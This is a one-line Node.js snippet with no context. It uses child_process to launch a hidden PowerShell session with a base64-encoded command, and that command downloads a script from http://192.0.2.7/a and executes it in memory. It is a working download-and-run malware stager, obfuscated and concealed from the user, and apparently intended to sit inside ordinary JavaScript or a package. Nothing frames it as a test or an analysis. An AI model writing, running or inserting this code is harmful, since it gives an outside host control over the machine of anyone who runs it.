const c=require('child_process');c.exec('powershell -nop -w hidden -enc '+Buffer.from('IEX(New-Object Net.WebClient).DownloadString("http://192.0.2.7/a")','utf16le').toString('base64'));
